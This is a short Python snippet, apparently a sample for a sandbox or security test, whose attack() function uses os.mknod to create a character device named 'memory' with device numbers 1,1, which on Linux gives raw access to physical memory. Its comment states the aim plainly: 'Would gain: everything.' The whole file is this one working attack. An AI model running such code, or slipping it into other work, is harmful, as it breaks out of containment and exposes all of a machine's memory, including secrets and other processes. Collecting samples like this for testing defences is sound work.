# Makes a device: the machine's memory, as a file in its folder. Would gain: everything.
import os
import stat


def attack():
    os.mknod("memory", stat.S_IFCHR | 0o600, os.makedev(1, 1))
    return True
